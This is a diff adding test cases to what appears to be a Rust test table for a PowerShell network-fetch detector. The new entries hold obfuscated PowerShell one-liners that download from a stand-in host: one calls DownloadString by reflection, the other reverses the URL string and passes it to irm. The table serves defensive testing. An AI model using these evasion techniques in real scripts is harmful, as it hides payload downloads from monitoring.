@@ -587,4 +587,14 @@ $m.Dispose()
         "$w=New-Object Net.WebSockets.ClientWebSocket;$w.ConnectAsync('wss://c.example/a',$null).Wait()",
         &["fetch wss://c.example/a"],
     ),
+    (
+        "member by reflection",
+        "[Net.WebClient].InvokeMember('DownloadString','InvokeMethod',$null,(New-Object Net.WebClient),@('http://192.0.2.7/a'))",
+        &["fetch http://192.0.2.7/a"],
+    ),
+    (
+        "reversed by a query",
+        "irm (-join [Linq.Enumerable]::Reverse([char[]]'a/7.2.0.291//:ptth'))",
+        &["fetch http://192.0.2.7/a"],
+    ),
 ];
